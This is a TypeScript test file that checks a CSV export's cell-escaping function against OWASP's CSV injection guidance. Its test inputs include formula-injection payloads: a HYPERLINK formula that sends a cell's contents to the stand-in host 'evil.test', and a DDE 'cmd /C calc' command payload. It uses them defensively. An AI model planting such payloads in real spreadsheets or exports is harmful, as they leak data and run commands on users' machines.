// The CSV export's cells against OWASP's CSV Injection page
// (https://owasp.org/www-community/attacks/CSV_Injection): its formula characters, its two
// examples, and a formula behind a separator that a spreadsheet splitting on `;` would run.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell } from './downloads.ts';

const FORMULA_CHARACTERS = ['=', '+', '-', '@', '\t', '\r', '\n'];

/**
 * The cells a spreadsheet could make of `csv` when it splits on any separator (`,` `;` tab,
 * line breaks) and ignores quoting: each starts, after spaces and quotes, with no formula character.
 */
function startsNoFormula(csv: string): boolean {
  return csv.split(/[,;\t\r\n]/).every((piece) => !/^[ "]*[=+\-@]/.test(piece));
}

/** Whether the value inside a quoted `cell` starts, after spaces and quotes, with a formula character. */
function startsWithFormula(cell: string): boolean {
  return /^[=+\-@\t\r\n]/.test(cell.slice(1).replace(/^[ "]*/, ''));
}

describe('csvCell', () => {
  it.each([
    // OWASP's table: every cell quoted, its quotes doubled, an apostrophe before the formula —
    // and, as the page asks of separators, before the one behind `;` or `,` too.
    ['=1+2";=1+2', `"'=1+2"";'=1+2"`],
    [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,'=1+2"`],
    // The case: a spreadsheet that splits on `;` would start a cell at the `=`.
    ['x;=HYPERLINK("http://evil.test/?d="&A1)', `"x;'=HYPERLINK(""http://evil.test/?d=""&A1)"`],
    ["note,@SUM(1+1)*cmd|' /C calc'!A0", `"note,'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['a\t-2+3', `"a\t'-2+3"`],
    ['a; "=1+2', `"a; ""'=1+2"`],
    ['line\n+1', `"line\n'+1"`],
    // Plain values are only quoted.
    ['deliverable@x.test', '"deliverable@x.test"'],
    ['Smith; Ann', '"Smith; Ann"'],
    ['87', '"87"'],
    ['', '""'],
    ['a - b, c + d', '"a - b, c + d"'],
  ])('%j → %s', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
    expect(startsNoFormula(expected)).toBe(true);
    expect(startsWithFormula(expected)).toBe(false);
  });

  it.each(FORMULA_CHARACTERS)(
    'prefixes a cell starting with %j, after any spaces and quotes',
    (character) => {
      for (const value of [`${character}1+1`, ` ${character}1+1`, `"${character}1+1`]) {
        const cell = csvCell(value);
        expect(cell).toMatch(/^"[ "]*'/);
        expect(parse(cell)).toEqual([[value.replace(/^([ "]*)/, "$1'")]]);
      }
    },
  );

  it('reads back as the value, apostrophes aside, with separators, quotes and line breaks inside', () => {
    const values = ['=1+2";=1+2', 'a,b;c\td', 'multi\r\nline "quoted"', "it's", '-5', '@home'];
    const csv = `${values.map(csvCell).join(',')}\r\n`;
    const [row] = parse(csv, { relax_quotes: false }) as string[][];
    expect(row?.map((cell) => cell.replaceAll("'", ''))).toEqual(
      values.map((value) => value.replaceAll("'", '')),
    );
    expect(startsNoFormula(csv)).toBe(true);
  });

  it('leaves no formula start for any mix of separators, quotes, spaces and formula characters', () => {
    const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '"', "'", ' ', 'x', '1'];
    // Every string of up to four of them: 14^4 + … values, each checked the way a spreadsheet splits.
    let values = [''];
    for (let length = 1; length <= 4; length++) {
      values = values.flatMap((prefix) => alphabet.map((character) => prefix + character));
      for (const value of values) {
        const cell = csvCell(value);
        if (!startsNoFormula(cell) || startsWithFormula(cell)) throw new Error(JSON.stringify(value));
      }
    }
  });
});
